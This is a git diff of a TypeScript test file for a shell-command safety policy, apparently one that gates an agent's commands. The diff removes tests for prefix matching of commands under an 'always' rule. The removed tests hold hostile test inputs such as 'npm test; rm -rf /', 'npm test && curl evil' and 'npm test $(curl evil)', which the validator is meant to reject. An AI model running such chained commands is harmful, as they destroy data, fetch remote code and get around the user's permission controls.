@@ -3,7 +3,7 @@
 import { mkdirSync, symlinkSync } from "node:fs";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { leadingWords, readOnlyVerdict, startsWithWords } from "../../lib/policy/safe_command.ts";
+import { readOnlyVerdict } from "../../lib/policy/safe_command.ts";
 import { parseCommandLine } from "../../lib/policy/shell_words.ts";
 import { makeSandbox, type Sandbox } from "../tools/helpers.ts";
 
@@ -312,23 +312,5 @@ describe("genuinely read-only commands still run unasked", () => {
     "tree -L 2 -a -I node_modules",
   ])("runs %s", (command) => {
     expect(readOnlyVerdict(command, box.workspace)).toEqual({ safe: true });
-  });
-});
-
-describe("leading words for 'always'", () => {
-  it("takes the program and, for tools with subcommands, the subcommand", () => {
-    expect(leadingWords("npm test -- --watch")).toEqual(["npm", "test"]);
-    expect(leadingWords("git commit -m 'x'")).toEqual(["git", "commit"]);
-    expect(leadingWords("touch a.txt")).toEqual(["touch"]);
-    expect(leadingWords("npm test; rm -rf /")).toBeUndefined();
-    expect(leadingWords("./run.sh")).toBeUndefined();
-  });
-
-  it("matches only single simple commands starting with those words", () => {
-    expect(startsWithWords("npm test --coverage", ["npm", "test"])).toBe(true);
-    expect(startsWithWords("npm testx", ["npm", "test"])).toBe(false);
-    expect(startsWithWords("npm test && curl evil", ["npm", "test"])).toBe(false);
-    expect(startsWithWords("npm test | sh", ["npm", "test"])).toBe(false);
-    expect(startsWithWords("npm test $(curl evil)", ["npm", "test"])).toBe(false);
   });
 });
